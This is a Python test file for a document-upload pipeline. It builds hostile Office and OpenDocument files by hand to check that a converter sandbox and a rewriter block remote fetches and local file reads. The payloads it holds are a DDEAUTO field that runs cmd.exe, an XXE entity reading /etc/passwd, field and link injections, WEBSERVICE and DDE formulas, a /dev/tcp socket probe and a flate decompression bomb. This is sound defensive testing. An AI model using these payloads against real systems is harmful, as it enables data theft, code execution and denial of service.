"""Hostile Office uploads: nothing is fetched, no local file reaches a rendition, and the
converter's sandbox has no network and sees no files but its own.

Each hostile document is built here by hand (zipfile and XML). A loopback HTTP server started
by the test records every request; a "secret" folder outside the converter's holds a text, an
image and a PDF. Documents point at both with ``http://`` and ``file://`` addresses through an
external image, a linked OLE object, field codes (INCLUDEPICTURE, INCLUDETEXT, DDEAUTO), a
remote template and OpenDocument links; each goes through the real upload pipeline. Control
tests run LibreOffice on the same files without either guard and see the fetch and the file
content arrive, so the assertions below can fail.
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import threading
import uuid
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pikepdf
import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_c
import pytest
from PIL import Image

from documents import ingest, officesafe, sandbox, selectors
from documents.models import PaperVersion, VersionStatus
from tests import test_uploads
from tests.pdfs import make_pdf
from tests.test_uploads import Upload, assert_refused, minimal_docx

# The upload fixtures of the upload tests: the secretary uploads, the ingest task runs at once.
upload = test_uploads.upload
nothing_left = test_uploads.nothing_left

needs_soffice = pytest.mark.skipif(
    ingest.soffice() is None, reason="LibreOffice (soffice) is not installed: run `make system-deps` as root"
)
# CI installs bubblewrap (make setup), so there a sandbox that cannot start fails these tests.
needs_sandbox = pytest.mark.skipif(
    not sandbox.available() and os.environ.get("CI", "").strip().lower() not in {"true", "1", "yes"},
    reason="bubblewrap cannot start here: run `make system-deps` as root",
)


# --- the loopback server and the secrets ------------------------------------------------------


def _png(colour: str = "red") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), colour).save(out, "PNG")
    return out.getvalue()


@dataclass
class Trap:
    """A loopback HTTP server that records every request, and secret files beside it."""

    url: str
    port: int
    folder: Path
    token: str
    requests: list[str] = field(default_factory=list)

    @property
    def text(self) -> Path:
        return self.folder / "secret.txt"

    @property
    def image(self) -> Path:
        return self.folder / "secret.png"

    @property
    def pdf(self) -> Path:
        return self.folder / "secret.pdf"

    @property
    def odt(self) -> Path:
        return self.folder / "secret.odt"


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    token = f"SECRET{uuid.uuid4().hex[:12].upper()}"
    folder = tmp_path / "secret"
    folder.mkdir()
    (folder / "secret.txt").write_text(f"{token} from a local text file\n")
    (folder / "secret.png").write_bytes(_png("blue"))
    (folder / "secret.pdf").write_bytes(make_pdf([f"{token} from another paper"]))
    (folder / "secret.odt").write_bytes(odt(f"<text:p>{token} from a local document</text:p>"))
    seen: list[str] = []
    image = _png()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(image)))
            self.end_headers()
            self.wfile.write(image)

        do_HEAD = do_GET  # noqa: N815
        do_POST = do_GET  # noqa: N815
        do_PROPFIND = do_GET  # noqa: N815  (WebDAV, which LibreOffice tries first)
        do_OPTIONS = do_GET  # noqa: N815

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    port = server.server_address[1]
    try:
        yield Trap(url=f"http://127.0.0.1:{port}", port=port, folder=folder, token=token, requests=seen)
    finally:
        server.shutdown()
        server.server_close()


# --- hostile documents, made by hand ----------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
NAMESPACES = (
    f'xmlns:w="{W}" xmlns:r="{R}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def docx(body: str, rels: str = "", *, settings: str = "", settings_rels: str = "") -> bytes:
    """A Word document: ``body`` inside ``w:body`` after a visible paragraph, with extra parts."""
    buf = io.BytesIO()
    overrides = f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>'
    if settings:
        overrides += (
            '<Override PartName="/word/settings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
        )
        rels += _rel("rIdSettings", "settings", "settings.xml", external=False)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="png" ContentType="image/png"/>' + overrides + "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">'
            + _rel("rId1", "officeDocument", "word/document.xml", external=False)
            + "</Relationships>",
        )
        z.writestr(
            "word/document.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><w:document {NAMESPACES}><w:body>'
            "<w:p><w:r><w:t>Quarterly report of the finance committee</w:t></w:r></w:p>"
            f"{body}</w:body></w:document>",
        )
        z.writestr(
            "word/_rels/document.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">{rels}</Relationships>',
        )
        if settings:
            z.writestr(
                "word/settings.xml",
                f'<?xml version="1.0" encoding="UTF-8"?><w:settings {NAMESPACES}>{settings}</w:settings>',
            )
            z.writestr(
                "word/_rels/settings.xml.rels",
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">{settings_rels}</Relationships>',
            )
    return buf.getvalue()


def docx_linked_image(target: str) -> bytes:
    """A picture whose image is "linked" (``r:link``) to an address instead of embedded."""
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1905000" cy="1905000"/>'
        '<wp:docPr id="1" name="Picture 1"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="1" name="chart.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdImg"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1905000" cy="1905000"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )
    return docx(drawing, _rel("rIdImg", "image", target))


def _field(instruction: str, shown: str = "result") -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_fields(trap: Trap) -> bytes:
    """INCLUDEPICTURE and INCLUDETEXT over http and file, DDEAUTO, and a simple-field INCLUDETEXT."""
    return docx(
        _field(f'INCLUDEPICTURE "{trap.url}/field-picture.png" \\d', "picture")
        + _field(f'INCLUDEPICTURE "{trap.image.as_uri()}" \\d', "picture")
        + _field(f'INCLUDETEXT "{trap.text}"', "included text")
        + _field(f'INCLUDETEXT "{trap.url}/field-text.txt"', "included text")
        + _field('DDEAUTO "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc"', "dde")
        + f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{trap.odt}&quot; "><w:r><w:t>simple</w:t></w:r>'
        "</w:fldSimple></w:p>" + _field("PAGE", "1")
    )


def docx_linked_ole(trap: Trap) -> bytes:
    """A linked (not embedded) OLE object whose preview and source are outside the document."""
    body = (
        '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440">'
        '<v:shape id="_x0000_i1025" style="width:72pt;height:72pt" o:ole="">'
        '<v:imagedata r:id="rIdPreview" o:title=""/></v:shape>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Content" '
        'r:id="rIdOle" UpdateMode="Always"><o:LinkType>EnhancedMetafile</o:LinkType>'
        "<o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>"
    )
    rels = _rel("rIdPreview", "image", f"{trap.url}/ole-preview.png") + _rel("rIdOle", "oleObject", trap.pdf.as_uri())
    return docx(body, rels)


def docx_remote_template(trap: Trap) -> bytes:
    return docx(
        "",
        settings='<w:attachedTemplate r:id="rIdTpl"/><w:updateFields w:val="true"/>',
        settings_rels=_rel("rIdTpl", "attachedTemplate", f"{trap.url}/template.dotx"),
    )


ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
)


def odt(body: str) -> bytes:
    """An OpenDocument text with ``body`` inside ``office:text``."""
    return _odf("text", f"<office:text><text:p>Minutes of the annual meeting</text:p>{body}</office:text>")


def _odf(kind: str, body: str) -> bytes:
    buf = io.BytesIO()
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        z.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
            'manifest:version="1.3">'
            '<manifest:file-entry manifest:full-path="/" '
            f'manifest:media-type="{mimetype}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
            compress_type=zipfile.ZIP_DEFLATED,
        )
        z.writestr(
            "content.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>'
            f"<office:body>{body}</office:body></office:document-content>",
            compress_type=zipfile.ZIP_DEFLATED,
        )
    return buf.getvalue()


def _odt_image(href: str, name: str) -> str:
    return (
        f'<text:p><draw:frame draw:name="{name}" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">'
        f'<draw:image xlink:href="{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
        "</draw:frame></text:p>"
    )


def odt_links(trap: Trap) -> bytes:
    """Linked images (http, a local image, a local PDF) and a section that is a link to a file."""
    return odt(
        _odt_image(f"{trap.url}/odt-image.png", "web")
        + _odt_image(trap.image.as_uri(), "local image")
        + _odt_image(trap.pdf.as_uri(), "local pdf")
        + _odt_image("../../../secret/secret.png", "relative")
        + '<text:section text:name="linked">'
        f'<text:section-source xlink:href="{trap.odt.as_uri()}" xlink:type="simple"/></text:section>'
        + '<text:p><text:a xlink:href="https://example.org/agenda" xlink:type="simple">agenda</text:a></text:p>'
    )


def ods_links(trap: Trap) -> bytes:
    """A spreadsheet cell that calls WEBSERVICE and DDE, and a sheet that is a link to a web file."""
    return _odf(
        "spreadsheet",
        '<office:spreadsheet><table:table table:name="Budget"><table:table-row>'
        '<table:table-cell office:value-type="string"><text:p>Budget of the annual meeting</text:p></table:table-cell>'
        f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{trap.url}/webservice&quot;)"/>'
        '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;'
        f'{trap.text.as_uri()}&quot;;&quot;A1&quot;)"/></table:table-row></table:table>'
        '<table:table table:name="Linked">'
        f'<table:table-source xlink:href="{trap.url}/linked.csv" table:filter-name="Text - txt - csv (StarCalc)" '
        'table:mode="copy-all"/><table:table-row><table:table-cell/></table:table-row></table:table>'
        "</office:spreadsheet>",
    )


HOSTILE: dict[str, tuple[Callable[[Trap], bytes], str]] = {
    "docx-image-http": (lambda t: docx_linked_image(f"{t.url}/linked-image.png"), "docx"),
    "docx-image-file": (lambda t: docx_linked_image(t.image.as_uri()), "docx"),
    "docx-image-file-pdf": (lambda t: docx_linked_image(t.pdf.as_uri()), "docx"),
    "docx-fields": (docx_fields, "docx"),
    "docx-linked-ole": (docx_linked_ole, "docx"),
    "docx-remote-template": (docx_remote_template, "docx"),
    "odt-links": (odt_links, "odt"),
    "ods-webservice-dde-linked-sheet": (ods_links, "ods"),
}


# --- what reached the rendition ---------------------------------------------------------------


def rendition_text_and_images(data: bytes) -> tuple[str, int]:
    """All text of a PDF (pypdfium2) and how many image objects its pages draw."""
    doc = pdfium.PdfDocument(data)
    texts: list[str] = []
    images = 0
    try:
        for page in doc:
            textpage = page.get_textpage()
            texts.append(textpage.get_text_bounded())
            textpage.close()
            images += sum(1 for _ in page.get_objects(filter=(pdfium_c.FPDF_PAGEOBJ_IMAGE,), max_depth=5))
            page.close()
    finally:
        doc.close()
    return "\n".join(texts), images


def _stored(version: PaperVersion) -> bytes:
    with version.file.open("rb") as fh:
        return fh.read()


def _soffice_unguarded(source: Path, outdir: Path) -> Path:
    """LibreOffice as Boardroom ran it before the guards: no rewriting, no sandbox."""
    profile = outdir / "profile"
    subprocess.run(
        [
            ingest.soffice() or "soffice",
            "--headless",
            "--norestore",
            "--nologo",
            "--nodefault",
            "--nolockcheck",
            f"-env:UserInstallation={profile.as_uri()}",
            "--convert-to",
            "pdf",
            "--outdir",
            str(outdir),
            str(source),
        ],
        env=ingest.child_env(outdir),
        capture_output=True,
        timeout=180,
        check=False,
    )
    return outdir / (source.stem + ".pdf")


# --- the pipeline: nothing fetched, no secret in the rendition --------------------------------


@needs_soffice
@needs_sandbox
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_office_upload_fetches_nothing_and_embeds_no_local_file(
    case: str, trap: Trap, upload: Upload
) -> None:
    build, kind = HOSTILE[case]
    version = upload(build(trap), f"paper.{kind}")
    assert trap.requests == [], f"the converter fetched {trap.requests}"
    assert version.status == VersionStatus.READY, version.refusal_reason
    assert version.content_type == f"office/{kind}"
    text, images = rendition_text_and_images(_stored(version))
    assert trap.token not in text
    assert not any(trap.token in page for page in selectors.page_texts(version))
    assert images == 0  # the only pictures these documents have are outside them
    assert "finance committee" in text or "annual meeting" in text  # the document itself is there
    assert officesafe.EXTERNAL in version.stripped or officesafe.FIELDS in version.stripped


# Where LibreOffice, left alone, fetches or embeds (it ignores the field, OLE and template cases).
LEAKY = ["docx-image-file", "docx-image-file-pdf", "docx-image-http", "odt-links"]


@needs_soffice
@pytest.mark.parametrize("case", LEAKY)
def test_control_without_the_guards_libreoffice_does_fetch_and_embed(case: str, trap: Trap, tmp_path: Path) -> None:
    """The same files and LibreOffice without rewriting or sandbox: the trap sees the fetch, or
    the local image or PDF arrives in the PDF. This is what the tests around it guard against;
    if it stopped happening the hostile files would need updating."""
    build, kind = HOSTILE[case]
    source = tmp_path / f"hostile.{kind}"
    source.write_bytes(build(trap))
    text, images = rendition_text_and_images(_soffice_unguarded(source, tmp_path).read_bytes())
    assert trap.requests or images or trap.token in text, "LibreOffice fetched and embedded nothing"


@needs_soffice
@needs_sandbox
@pytest.mark.parametrize("case", LEAKY)
def test_the_sandbox_alone_stops_the_fetch_and_the_local_files(case: str, trap: Trap, tmp_path: Path) -> None:
    """Defence in depth: the unrewritten hostile file, converted inside the sandbox."""
    build, kind = HOSTILE[case]
    folder = tmp_path / "office"
    folder.mkdir()
    source = folder / f"hostile.{kind}"
    source.write_bytes(build(trap))
    profile = folder / "profile"
    cmd = [
        ingest.soffice() or "soffice",
        "--headless",
        "--norestore",
        f"-env:UserInstallation={profile.as_uri()}",
        "--convert-to",
        "pdf",
        "--outdir",
        str(folder),
        str(source),
    ]
    subprocess.run(sandbox.wrap(cmd, folder), env=ingest.child_env(folder), capture_output=True, timeout=180)
    assert trap.requests == []
    text, images = rendition_text_and_images((folder / "hostile.pdf").read_bytes())
    assert trap.token not in text and images == 0
    assert "finance committee" in text or "annual meeting" in text


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_the_rewrite_alone_leaves_no_reference_outside_the_package(case: str, trap: Trap, tmp_path: Path) -> None:
    build, kind = HOSTILE[case]
    source, clean = tmp_path / "in.zip", tmp_path / "out.zip"
    source.write_bytes(build(trap))
    removed = officesafe.neutralise(source, clean, odf=kind in ("odt", "ods"))
    assert removed
    with zipfile.ZipFile(clean) as z:
        text = "\n".join(z.read(name).decode("utf-8") for name in z.namelist() if name != "mimetype")
        assert z.namelist()[0] == zipfile.ZipFile(source).namelist()[0]  # ODF's mimetype stays first
    needles = (str(trap.port), "file:", str(trap.folder), "../", "INCLUDE", "DDE", "WEBSERVICE", "attachedTemplate")
    for needle in needles:
        assert needle not in text, needle
    assert "Quarterly report" in text or "annual meeting" in text
    if case == "odt-links":
        assert "https://example.org/agenda" in text  # a plain link a reader follows stays


def test_harmless_fields_and_links_survive_the_rewrite(tmp_path: Path) -> None:
    source, clean = tmp_path / "in.docx", tmp_path / "out.docx"
    link = _rel("rIdLink", "hyperlink", "https://example.org/budget")
    body = _field("PAGE", "7") + _field("TOC \\o 1-3", "Contents") + '<w:p><w:hyperlink r:id="rIdLink"/></w:p>'
    source.write_bytes(docx(body, link))
    assert officesafe.neutralise(source, clean, odf=False) == []
    assert zipfile.ZipFile(clean).read("word/document.xml") == zipfile.ZipFile(source).read("word/document.xml")
    assert b"https://example.org/budget" in zipfile.ZipFile(clean).read("word/_rels/document.xml.rels")


def test_an_office_part_with_a_doctype_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "in.docx"
    data = docx("")
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(source, "w") as out:
        for name in z.namelist():
            part = z.read(name)
            if name == "word/document.xml":
                part = part.replace(b"?>", b'?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
            out.writestr(name, part)
    with pytest.raises(officesafe.Unsafe, match="DOCTYPE"):
        officesafe.neutralise(source, tmp_path / "out.docx", odf=False)


# --- the sandbox itself -----------------------------------------------------------------------


def _in_sandbox(script: str, folder: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        sandbox.wrap(["bash", "-c", script], folder),
        env=ingest.child_env(folder),
        capture_output=True,
        text=True,
        timeout=60,
    )


@needs_sandbox
def test_a_sandboxed_command_cannot_open_a_socket_to_the_host(trap: Trap, tmp_path: Path) -> None:
    # Outside the sandbox the same command reaches the server: the check below can fail.
    probe = f"exec 3<>/dev/tcp/127.0.0.1/{trap.port} && printf 'GET /probe HTTP/1.0\\r\\n\\r\\n' >&3 && head -c 12 <&3"
    outside = subprocess.run(["bash", "-c", probe], capture_output=True, text=True, timeout=30)
    assert outside.stdout == "HTTP/1.0 200" and trap.requests == ["/probe"]
    inside = _in_sandbox(probe, tmp_path)
    assert inside.returncode != 0
    assert trap.requests == ["/probe"]  # nothing more arrived
    # Nor any other address: the only network device is the sandbox's own loopback.
    devices = _in_sandbox("tail -n +3 /proc/net/dev | cut -d: -f1", tmp_path)
    assert devices.stdout.split() == ["lo"]


@needs_sandbox
def test_a_sandboxed_command_reads_and_writes_only_its_own_folder(trap: Trap, tmp_path: Path) -> None:
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "input.txt").write_text("board paper")
    assert trap.token in trap.text.read_text()  # readable from outside
    result = _in_sandbox(f"cat {trap.text}", folder)
    assert result.returncode != 0 and trap.token not in result.stdout
    assert _in_sandbox("cat input.txt", folder).stdout == "board paper"
    assert _in_sandbox("echo made > output.txt", folder).returncode == 0
    assert (folder / "output.txt").read_text() == "made\n"
    # The system is read-only, the rest of the machine is not there, /tmp is private and empty.
    assert _in_sandbox("touch /usr/lib/boardroom-test", folder).returncode != 0
    assert not Path("/usr/lib/boardroom-test").exists()
    listing = _in_sandbox(f"ls / /tmp; ls {Path.cwd()} {Path.home()}", folder)
    assert set(listing.stdout.split()) <= {"/:", "/tmp:", "bin", "dev", "etc", "lib", "lib32", "lib64"} | {
        "libx32",
        "proc",
        "sbin",
        "tmp",
        "usr",
        "var",
    } | set(str(folder).split("/"))
    assert "No such file or directory" in listing.stderr


# --- without the sandbox ----------------------------------------------------------------------


@pytest.fixture
def path_without_bwrap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A PATH with every program of /usr/bin except bubblewrap."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    for entry in os.scandir("/usr/bin"):
        if entry.name != "bwrap":
            (bindir / entry.name).symlink_to(entry.path)
    monkeypatch.setenv("PATH", str(bindir))
    assert shutil.which("bwrap") is None
    return bindir


@needs_soffice
def test_without_the_sandbox_an_office_upload_is_refused_with_a_clear_message(
    upload: Upload, path_without_bwrap: Path, nothing_left: Callable[[], None]
) -> None:
    version = upload(minimal_docx("Treasurer report"), "report.docx")
    assert_refused(version, sandbox.UNAVAILABLE)
    nothing_left()


@needs_soffice
def test_an_administrator_may_switch_the_sandbox_off_explicitly(
    upload: Upload, path_without_bwrap: Path, settings: Any
) -> None:
    settings.BOARDROOM_CONVERTER_SANDBOX = False
    version = upload(minimal_docx("Treasurer report"), "report.docx")
    assert version.status == VersionStatus.READY, version.refusal_reason
    assert "Treasurer report" in selectors.page_texts(version)[0]


# --- decompression bombs ----------------------------------------------------------------------


def zeros_flate(mib: int) -> bytes:
    """A zlib stream that inflates to ``mib`` MiB of zero bytes, made from one repeated block."""
    import struct
    import zlib

    chunk = b"\0" * (1024 * 1024)
    compressor = zlib.compressobj(9)
    head = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = compressor.flush()[:-4]  # the last empty block, without the checksum of two chunks
    adler = ((mib * 1024 * 1024) % 65521) << 16 | 1  # Adler-32 of that many zero bytes
    return head + block * (mib - 1) + final + struct.pack(">I", adler)


def flate_bomb(mib: int) -> bytes:
    """A one-page PDF of about 1 KB per MiB whose content stream inflates to ``mib`` MiB."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    stream = pikepdf.Stream(pdf, b"")
    stream.write(zeros_flate(mib), filter=pikepdf.Name.FlateDecode)
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_a_flate_bomb_is_refused_as_too_large_when_decompressed(
    upload: Upload, settings: Any, nothing_left: Callable[[], None]
) -> None:
    settings.BOARDROOM_INGEST_MEMORY_MB = 512  # plenty for a real PDF of this size
    data = flate_bomb(1024)
    assert len(data) < 2 * 1024 * 1024
    version = upload(data, "bomb.pdf")
    assert_refused(version, "too large when decompressed")
    nothing_left()


@needs_soffice
def test_an_office_bomb_is_refused_as_too_large_when_decompressed(
    upload: Upload, nothing_left: Callable[[], None]
) -> None:
    huge = "A" * (officesafe.MAX_XML_PART + 1)
    version = upload(docx(f"<w:p><w:r><w:t>{huge}</w:t></w:r></w:p>"), "bomb.docx")
    assert_refused(version, "too large when decompressed")
    nothing_left()
